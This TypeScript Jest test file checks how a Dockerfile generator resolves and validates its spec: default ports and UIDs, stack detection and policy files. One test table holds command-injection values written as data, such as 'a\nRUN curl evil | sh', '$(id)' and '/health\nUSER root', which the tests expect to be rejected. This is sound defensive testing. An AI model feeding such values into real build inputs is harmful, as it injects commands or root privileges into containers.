import { describe, expect, it } from '@jest/globals';
import { InputError, resolveSpec, workspaceDefaults } from '../../generators/src/core/spec.js';
import { MemoryWorkspace } from '../support/memory-workspace.js';

const resolve = (answers: Record<string, string | number | boolean>, files: Record<string, string> = {}) =>
  resolveSpec(answers, workspaceDefaults(new MemoryWorkspace(files)));

const errorOf = (answers: Record<string, string | number | boolean>, files: Record<string, string> = {}) => {
  try {
    resolve(answers, files);
  } catch (error) {
    return error as InputError;
  }
  throw new Error('expected an InputError');
};

describe('resolveSpec defaults', () => {
  it('needs only name and stack', () => {
    const { spec, flags } = resolve({ name: 'billing-api', stack: 'python' });
    expect(spec).toMatchObject({
      name: 'billing-api',
      stack: 'python',
      appType: 'api',
      packageManager: 'pip',
      port: 8000,
      healthPath: '/health',
      mode: 'new',
      uid: 1000,
      gid: 1000,
      runtimeVersion: '3.13',
    });
    expect(flags).toEqual({ force: false, dryRun: false, skipInstall: false });
  });

  it('gives frontends uid 1001 and node port 3000', () => {
    expect(resolve({ name: 'web', stack: 'nextjs' }).spec).toMatchObject({ appType: 'frontend', uid: 1001, port: 3000 });
  });

  it('gives workers no port and no health path', () => {
    expect(resolve({ name: 'jobs', stack: 'node', appType: 'worker' }).spec).toMatchObject({ port: undefined, healthPath: undefined });
  });

  it('coerces flag strings', () => {
    const { spec, flags } = resolve({ name: 'a', stack: 'node', port: '8080', force: 'true' });
    expect(spec.port).toBe(8080);
    expect(flags.force).toBe(true);
  });

  it('defaults to existing mode, detecting stack and package manager, when the package has a manifest', () => {
    const files = {
      'packages/web/package.json': JSON.stringify({ dependencies: { next: '16.0.0' } }),
      'packages/web/pnpm-lock.yaml': 'lockfileVersion: 9.0\n',
    };
    expect(resolve({ name: 'web' }, files).spec).toMatchObject({ mode: 'existing', stack: 'nextjs', packageManager: 'pnpm' });
  });

  it('prefers poetry.lock over requirements.txt', () => {
    const files = { 'packages/py/pyproject.toml': '', 'packages/py/requirements.txt': '', 'packages/py/poetry.lock': '' };
    expect(resolve({ name: 'py' }, files).spec).toMatchObject({ stack: 'python', packageManager: 'poetry' });
  });
});

describe('resolveSpec rejects bad input with a one-line message naming the field', () => {
  it.each([
    [{ name: 'Billing', stack: 'python' }, 'name'],
    [{ name: '../etc', stack: 'python' }, 'name'],
    [{ name: 'a/b', stack: 'python' }, 'name'],
    [{ name: 'a..b', stack: 'python' }, 'name'],
    [{ name: '-a', stack: 'python' }, 'name'],
    [{ name: 'node_modules', stack: 'node' }, 'name'],
    [{ name: 'x'.repeat(65), stack: 'node' }, 'name'],
    [{ name: 'a', stack: 'cobol' }, 'stack'],
    [{ name: 'a', stack: 'python', appType: 'frontend' }, 'appType'],
    [{ name: 'a', stack: 'nextjs', appType: 'worker' }, 'appType'],
    [{ name: 'a', stack: 'python', packageManager: 'npm' }, 'packageManager'],
    [{ name: 'a', stack: 'node', packageManager: 'poetry' }, 'packageManager'],
    [{ name: 'a', stack: 'node', port: 0 }, 'port'],
    [{ name: 'a', stack: 'node', port: 65536 }, 'port'],
    [{ name: 'a', stack: 'node', port: '80a' }, 'port'],
    [{ name: 'a', stack: 'node', appType: 'worker', port: 3000 }, 'port'],
    [{ name: 'a', stack: 'node', healthPath: 'health' }, 'healthPath'],
    [{ name: 'a', stack: 'node', mode: 'existing' }, 'mode'],
    [{ name: 'a', stack: 'node', force: 'maybe' }, 'force'],
    [{ name: 'a', stack: 'node', colour: 'blue' }, 'colour'],
    [{ stack: 'node' }, 'name'],
    [{ name: 'a' }, 'stack'],
  ])('%j → %s', (answers, field) => {
    const error = errorOf(answers);
    expect(error).toBeInstanceOf(InputError);
    expect(error.field).toBe(field);
    expect(error.message.startsWith(`${field}: `)).toBe(true);
    expect(error.message).not.toMatch(/\n/);
  });

  it('lists the allowed values', () => {
    expect(errorOf({ name: 'a', stack: 'python', appType: 'frontend' }).message).toBe(
      'appType: must be one of api | worker for stack python; got "frontend"',
    );
    expect(errorOf({ name: 'a', stack: 'cobol' }).message).toContain('python | node | nextjs');
  });

  it.each([
    ['name', 'a\nRUN curl evil | sh'],
    ['name', 'a"b'],
    ['name', '$(id)'],
    ['healthPath', '/health\nUSER root'],
    ['healthPath', "/health')\"]; RUN id #"],
    ['healthPath', '/$(id)'],
    ['port', '8000\nUSER 0'],
    ['packageManager', 'npm\nRUN id'],
  ])('refuses injection through %s: %j', (field, value) => {
    const error = errorOf({ name: 'svc', stack: 'node', [field]: value });
    expect(error.field).toBe(field);
    expect(error.message).not.toMatch(/\n/);
  });
});

describe('stacks added with the full matrix (go, rust, static, uv, --base)', () => {
  it('defaults Go and Rust to distroless with the nonroot UID, port 8080', () => {
    for (const stack of ['go', 'rust']) {
      expect(resolve({ name: 'svc', stack }).spec).toMatchObject({ base: 'distroless', uid: 65532, gid: 65532, port: 8080, packageManager: stack === 'go' ? 'gomod' : 'cargo' });
      expect(resolve({ name: 'svc', stack, base: 'slim' }).spec).toMatchObject({ base: 'slim', uid: 1000 });
    }
  });

  it('offers distroless for node, python and nextjs (65532), slim by default; only slim for static', () => {
    expect(resolve({ name: 'svc', stack: 'node' }).spec).toMatchObject({ base: 'slim', uid: 1000 });
    expect(resolve({ name: 'svc', stack: 'python', base: 'distroless' }).spec).toMatchObject({ base: 'distroless', uid: 65532 });
    expect(resolve({ name: 'web', stack: 'nextjs' }).spec).toMatchObject({ base: 'slim', uid: 1001 });
    expect(resolve({ name: 'web', stack: 'nextjs', base: 'distroless' }).spec).toMatchObject({ base: 'distroless', uid: 65532, gid: 65532 });
    expect(resolve({ name: 'web', stack: 'static' }).spec).toMatchObject({ appType: 'frontend', base: 'slim', uid: 1001, port: 8080 });
    expect(errorOf({ name: 'web', stack: 'static', base: 'distroless' }).message).toBe('base: must be one of slim for stack static; got "distroless"');
  });

  it('takes uv as a Python package manager', () => {
    expect(resolve({ name: 'svc', stack: 'python', packageManager: 'uv' }).spec.packageManager).toBe('uv');
  });

  it.each(['1api', 'billing.api'])('rejects %j as a Rust package name, naming the rule', (name) => {
    const error = errorOf({ name, stack: 'rust' });
    expect(error.field).toBe('name');
    expect(error.message).toMatch(/^name: a Rust package name starts with a letter and has no '\.'/);
  });

  it('detects go.mod, Cargo.toml, uv.lock and a Vite package in mode existing', () => {
    const at = (files: Record<string, string>) => Object.fromEntries(Object.entries(files).map(([path, content]) => [`packages/svc/${path}`, content]));
    expect(resolve({ name: 'svc' }, at({ 'go.mod': 'module svc\n' })).spec).toMatchObject({ mode: 'existing', stack: 'go', packageManager: 'gomod' });
    expect(resolve({ name: 'svc' }, at({ 'Cargo.toml': '[package]\nname = "svc"\n' })).spec).toMatchObject({ stack: 'rust', packageManager: 'cargo' });
    expect(resolve({ name: 'svc' }, at({ 'pyproject.toml': '', 'uv.lock': '' })).spec).toMatchObject({ stack: 'python', packageManager: 'uv' });
    expect(resolve({ name: 'svc' }, at({ 'package.json': '{"devDependencies":{"vite":"8.3.8"}}' })).spec).toMatchObject({ stack: 'static', appType: 'frontend' });
  });
});

describe('the workspace policy (dockwright.config.json)', () => {
  it('sets the UID the generator writes', () => {
    const files = { 'dockwright.config.json': JSON.stringify({ uid: { api: 2000, worker: 2000, frontend: 2001 } }) };
    expect(resolve({ name: 'a', stack: 'python' }, files).spec).toMatchObject({ uid: 2000, gid: 2000 });
    expect(resolve({ name: 'web', stack: 'nextjs' }, files).spec).toMatchObject({ uid: 2001 });
  });

  it('fails on an invalid policy with a message naming the key', () => {
    const files = { 'dockwright.config.json': JSON.stringify({ uid: { api: 0 } }) };
    expect(() => resolve({ name: 'a', stack: 'python' }, files)).toThrow(/uid\.api/);
  });
});
